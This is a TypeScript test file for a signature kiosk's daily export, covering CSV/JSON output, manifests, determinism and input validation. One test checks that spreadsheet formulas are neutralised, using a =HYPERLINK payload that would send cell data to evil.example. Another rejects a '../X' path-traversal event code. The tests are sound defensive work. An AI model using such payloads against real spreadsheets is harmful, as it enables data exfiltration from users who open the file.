import { createHash } from 'node:crypto'
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { ApiError } from '../../shared/api-error'
import type { SignatureRecord } from '../../shared/signature'
import { HOSTILE_NAMES, sampleSignatures } from '../../shared/testing/sample-signatures'
import { useTempDirs } from '../testing/temp-dir'
import { CSV_HEADERS } from './csv'
import { DAY, exportDay, sampleDay } from './test-helpers'

const newDir = useTempDirs()
const FOLDER = `EWRC26-B03-${DAY}`

async function readCsv(folder: string): Promise<{ raw: Buffer; rows: Record<string, string>[] }> {
  const raw = await readFile(join(folder, 'signatures.csv'))
  const parsed = Papa.parse<Record<string, string>>(raw.toString('utf8').slice(1), {
    header: true,
    skipEmptyLines: true,
  })
  expect(parsed.errors).toEqual([])
  expect(parsed.meta.fields).toEqual(CSV_HEADERS)
  return { raw, rows: parsed.data }
}

async function readAll(folder: string): Promise<Record<string, Buffer>> {
  const files: Record<string, Buffer> = {}
  for (const name of await readdir(folder)) files[name] = await readFile(join(folder, name))
  return files
}

/** The same record with its keys (and nested keys) in reverse order. */
function shuffledKeys(record: SignatureRecord): SignatureRecord {
  const reverse = (value: object) => Object.fromEntries(Object.entries(value).reverse())
  const reversed = reverse({
    ...record,
    consents: reverse(record.consents),
    signature: reverse(record.signature ?? {}),
  })
  return reversed as SignatureRecord
}

describe('writeDayBatch', () => {
  it('writes the four files into <event>-<kiosk>-<day>/ and nothing else', async () => {
    const parent = await newDir()
    const { folder } = await exportDay(parent)
    expect(folder).toBe(join(parent, FOLDER))
    expect(await readdir(parent)).toEqual([FOLDER])
    expect((await readdir(folder)).sort()).toEqual([
      'audit.json',
      'manifest.json',
      'signatures.csv',
      'signatures.json',
    ])
  })

  it('appends consentLocalEvents after the 20 columns of format version 1 (version 2)', async () => {
    const { folder } = await exportDay(await newDir())
    const { rows } = await readCsv(folder)
    expect(CSV_HEADERS[20]).toBe('consentLocalEvents')
    const byNo = new Map(sampleDay().records.map((r) => [r.certificateNo, r]))
    const values = rows.map((row) => row.consentLocalEvents)
    expect(new Set(values)).toEqual(new Set(['yes', 'no']))
    for (const row of rows) {
      const record = byNo.get(row.certificateNo!)!
      expect(row.consentLocalEvents).toBe(record.consents.localEvents ? 'yes' : 'no')
    }
  })

  it('appends source and paperRef as the last columns (format version 3)', async () => {
    const { records, ...rest } = sampleDay()
    const { signature: _drawn, ...paperForm } = {
      ...records[0]!,
      source: 'paper' as const,
      paperRef: 'P-0042',
    }
    const { folder, manifest } = await exportDay(await newDir(), {
      ...rest,
      records: [paperForm, ...records.slice(1)],
    })
    const { rows } = await readCsv(folder)
    expect(CSV_HEADERS.slice(-2)).toEqual(['source', 'paperRef'])
    expect(manifest.formatVersion).toBe(3)
    const paperRow = rows.find((row) => row.certificateNo === paperForm.certificateNo)!
    expect([paperRow.source, paperRow.paperRef]).toEqual(['paper', 'P-0042'])
    const others = rows.filter((row) => row !== paperRow)
    expect(others).toHaveLength(records.length - 1)
    expect(new Set(others.map((row) => `${row.source}|${row.paperRef}`))).toEqual(
      new Set(['kiosk|']),
    )
    const json = JSON.parse(await readFile(join(folder, 'signatures.json'), 'utf8')) as {
      records: SignatureRecord[]
    }
    const written = json.records.find((r) => r.certificateNo === paperForm.certificateNo)!
    expect(written).toMatchObject({ source: 'paper', paperRef: 'P-0042' })
    expect(written.signature).toBeUndefined()
  })

  it('writes an Excel-friendly CSV: BOM, CRLF, one header row, one row per signature', async () => {
    const parent = await newDir()
    const { records } = sampleDay()
    const { folder } = await exportDay(parent)
    const { raw, rows } = await readCsv(folder)
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = raw.toString('utf8')
    expect(text.match(/\r\n/g)).toHaveLength(records.length + 1)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    expect(rows.map((row) => row.certificateNo)).toEqual(records.map((r) => r.certificateNo).sort())
    for (const record of records) {
      const row = rows.find((r) => r.certificateNo === record.certificateNo)!
      expect(row).toMatchObject({
        firstName: record.firstName,
        lastName: record.lastName,
        capacity: record.capacity,
        organisationName: record.organisationName ?? '',
        email: record.email ?? '',
        country: record.country,
        consentEndorse: 'yes',
        consentNewsletter: record.consents.newsletter ? 'yes' : 'no',
        consentPublishName: record.consents.publishName ? 'yes' : 'no',
        consentLocalStory: record.consents.localStory ? 'yes' : 'no',
        id: record.id,
      })
    }
  })

  it('neutralises cells a spreadsheet would run as formulas, and only those', async () => {
    const parent = await newDir()
    const [base] = sampleSignatures({ count: 1, kioskId: 'B03', firstDay: DAY })
    const records = HOSTILE_NAMES.map((name, i) => ({
      ...base!,
      id: base!.id.replace(/.{3}$/, String(100 + i)),
      certificateNo: `EWRC26-B03-${String(i + 1).padStart(6, '0')}`,
      firstName: name,
      lastName: 'Ordinary',
      capacity: 'organisation' as const,
      organisationType: 'civic-society' as const,
      organisationName: name,
      city: name,
    }))
    const { folder } = await exportDay(parent, { records, withdrawals: [] })
    const { raw, rows } = await readCsv(folder)
    const formula = /^[=+\-@]/
    rows.forEach((row, i) => {
      const name = HOSTILE_NAMES[i]!
      const expected = formula.test(name) ? `'${name}` : name
      expect(row.firstName).toBe(expected)
      expect(row.organisationName).toBe(expected)
      expect(row.city).toBe(expected)
      expect(row.lastName).toBe('Ordinary')
    })
    expect(rows.map((row) => row.firstName)).toContain(
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    )
    expect(rows.map((row) => row.firstName)).toContain(`'=1+1;=2+2`)
    expect(raw.toString('utf8')).toContain(`,"'=HYPERLINK(""http://evil.example/`)
    // The JSON keeps the exact name: neutralising is for spreadsheets only.
    const json = JSON.parse(await readFile(join(folder, 'signatures.json'), 'utf8'))
    expect(json.records[0].firstName).toBe(HOSTILE_NAMES[0])
  })

  it('keeps every letter of Unicode names, in the CSV and the JSON', async () => {
    const parent = await newDir()
    const names = ['Łukasz', 'Ξανθή', 'Мария-Йорданова', "O'Brien", 'Zoë', 'Ștefănescu', 'Ħili']
    const base = sampleSignatures({ count: names.length, kioskId: 'B03', firstDay: DAY })
    const records = base.map((record, i) => ({
      ...record,
      firstName: names[i]!,
      lastName: names[i]!,
    }))
    const { folder } = await exportDay(parent, { records, withdrawals: [] })
    const { rows } = await readCsv(folder)
    expect(rows.map((row) => row.firstName)).toEqual(names)
    expect(rows.map((row) => row.lastName)).toEqual(names)
    const json = JSON.parse(await readFile(join(folder, 'signatures.json'), 'utf8'))
    expect(json.records.map((r: SignatureRecord) => r.firstName)).toEqual(names)
  })

  it('writes signatures.json as the full records sorted by certificate number, plus withdrawals', async () => {
    const parent = await newDir()
    const { records, withdrawals } = sampleDay()
    const { folder } = await exportDay(parent, { records: [...records].reverse() })
    const json = JSON.parse(await readFile(join(folder, 'signatures.json'), 'utf8'))
    expect(Object.keys(json)).toEqual(['records', 'withdrawals'])
    expect(json.records).toEqual(records)
    expect(json.withdrawals).toEqual(withdrawals)
    const audit = JSON.parse(await readFile(join(folder, 'audit.json'), 'utf8'))
    expect(audit.entries.map((e: { at: string }) => e.at)).toEqual([
      '2026-10-12T06:55:00.000Z',
      '2026-10-12T07:30:00.000Z',
      '2026-10-12T16:10:00.000Z',
    ])
  })

  it('states counts, time range and the SHA-256 and size of every other file in manifest.json', async () => {
    const parent = await newDir()
    const { records } = sampleDay()
    const { folder, manifest } = await exportDay(parent)
    const onDisk = JSON.parse(await readFile(join(folder, 'manifest.json'), 'utf8'))
    expect(onDisk).toEqual(manifest)
    const individuals = records.filter((r) => r.capacity === 'individual').length
    expect(manifest).toMatchObject({
      eventCode: 'EWRC26',
      kioskId: 'B03',
      day: DAY,
      appVersion: '1.2.3',
      counts: {
        records: 40,
        individuals,
        organisations: 40 - individuals,
        withdrawals: 2,
        auditEntries: 3,
      },
      timeRange: { first: records[0]!.createdAt, last: records[39]!.createdAt },
    })
    expect(individuals).toBeGreaterThan(0)
    expect(Object.keys(manifest.files).sort()).toEqual([
      'audit.json',
      'signatures.csv',
      'signatures.json',
    ])
    for (const [name, entry] of Object.entries(manifest.files)) {
      const data = await readFile(join(folder, name))
      expect(entry.bytes).toBe(data.length)
      expect(entry.sha256).toBe(createHash('sha256').update(data).digest('hex'))
    }
  })

  it('re-exports the same day byte for byte, whatever the input order and key order', async () => {
    const first = await newDir()
    const second = await newDir()
    const { records, withdrawals, audit } = sampleDay()
    await exportDay(first)
    const reshuffled = {
      records: [...records].reverse().map(shuffledKeys),
      withdrawals: [...withdrawals].reverse(),
      audit: [...audit].reverse(),
    }
    await exportDay(second, reshuffled)
    const a = await readAll(join(first, FOLDER))
    const b = await readAll(join(second, FOLDER))
    expect(Object.keys(b).sort()).toEqual(Object.keys(a).sort())
    for (const name of Object.keys(a)) expect(b[name]!.equals(a[name]!), name).toBe(true)
  })

  it('replaces an earlier export of the same day and leaves no temporary folders', async () => {
    const parent = await newDir()
    await exportDay(parent, { records: sampleDay(10).records, withdrawals: [] })
    await mkdir(join(parent, `.${FOLDER}.partial-deadbeef`))
    await writeFile(join(parent, `.${FOLDER}.partial-deadbeef`, 'signatures.csv'), 'half')
    const { manifest } = await exportDay(parent)
    expect(await readdir(parent)).toEqual([FOLDER])
    const onDisk = JSON.parse(await readFile(join(parent, FOLDER, 'manifest.json'), 'utf8'))
    expect(onDisk.counts.records).toBe(40)
    expect(manifest.counts.records).toBe(40)
  })

  it('exports a day without signatures', async () => {
    const parent = await newDir()
    const { folder, manifest } = await exportDay(parent, {
      records: [],
      withdrawals: [],
      audit: [],
    })
    expect(manifest.counts.records).toBe(0)
    expect(manifest.timeRange).toBeNull()
    const { rows } = await readCsv(folder)
    expect(rows).toEqual([])
  })

  it('reports progress up to done === total', async () => {
    const parent = await newDir()
    const calls: [number, number][] = []
    const { records } = sampleDay(2500)
    await exportDay(parent, { records, withdrawals: [], onProgress: (d, t) => calls.push([d, t]) })
    const total = calls[0]![1]
    expect(total).toBeGreaterThanOrEqual(2500)
    expect(calls.every(([, t]) => t === total)).toBe(true)
    expect(calls.map(([d]) => d)).toEqual([...calls.map(([d]) => d)].sort((x, y) => x - y))
    expect(calls.length).toBeGreaterThan(4)
    expect(calls.at(-1)).toEqual([total, total])
  })
})

describe('writeDayBatch refuses bad input and writes nothing', () => {
  async function expectRejected(
    content: Parameters<typeof exportDay>[1],
    message: RegExp,
  ): Promise<void> {
    const parent = await newDir()
    const before = await exportDay(parent, { records: sampleDay(5).records, withdrawals: [] })
    const files = await readAll(before.folder)
    const error = await exportDay(parent, content).catch((e: unknown) => e)
    expect(error).toBeInstanceOf(ApiError)
    expect((error as ApiError).code).toBe('invalid-argument')
    expect((error as ApiError).message).toMatch(message)
    expect((error as ApiError).message).toMatch(/Nothing was written/)
    expect(await readdir(parent)).toEqual([FOLDER])
    expect(await readAll(before.folder)).toEqual(files)
  }

  it('an invalid record, named by its certificate number', async () => {
    const { records } = sampleDay()
    const broken = records.map((r, i) => (i === 7 ? { ...r, email: 'not-an-email' } : r))
    await expectRejected({ records: broken }, /record 8 \(EWRC26-B03-000010\) is invalid \(email\)/)
  })

  it('a record of another day', async () => {
    const { records } = sampleDay()
    const other = records.map((r, i) => (i === 3 ? { ...r, day: '2026-10-13' } : r))
    await expectRejected({ records: other }, /record EWRC26-B03-000004 is from 2026-10-13/)
  })

  it('a record of another kiosk', async () => {
    const { records } = sampleDay()
    const other = records.map((r, i) =>
      i === 0 ? { ...r, kioskId: 'B04', certificateNo: 'EWRC26-B04-000001' } : r,
    )
    await expectRejected({ records: other }, /kiosk B04/)
  })

  it('a withdrawn signature whose personal data is still among the records', async () => {
    const { records } = sampleDay()
    const withdrawal = { id: records[0]!.id, certificateNo: records[0]!.certificateNo }
    await expectRejected(
      { withdrawals: [{ ...withdrawal, withdrawnAt: '2026-10-12T15:00:00.000Z' }] },
      /EWRC26-B03-000001 is withdrawn/,
    )
  })

  it('the same certificate twice', async () => {
    const { records } = sampleDay()
    await expectRejected({ records: [...records, records[2]!] }, /appears twice/)
  })

  it('a bad audit entry', async () => {
    const audit = [{ at: 'yesterday', action: 'export', detail: '' }] as never
    await expectRejected({ audit }, /audit entry 1 is invalid \(at\)/)
  })

  it('an event code that could escape the folder', async () => {
    await expectRejected({ eventCode: '../X' }, /Event code/)
  })

  it('a day that does not exist', async () => {
    await expectRejected({ day: '2026-02-30' }, /no such date/)
  })
})

describe('writeDayBatch on a folder it cannot write', () => {
  it('names the folder and says what is wrong', async () => {
    const parent = join(await newDir(), 'unplugged-stick')
    const error = await exportDay(parent).catch((e: unknown) => e)
    expect(error).toBeInstanceOf(ApiError)
    expect((error as ApiError).code).toBe('unavailable')
    expect((error as ApiError).message).toContain(parent)
    expect((error as ApiError).message).toMatch(/does not exist/)
  })
})
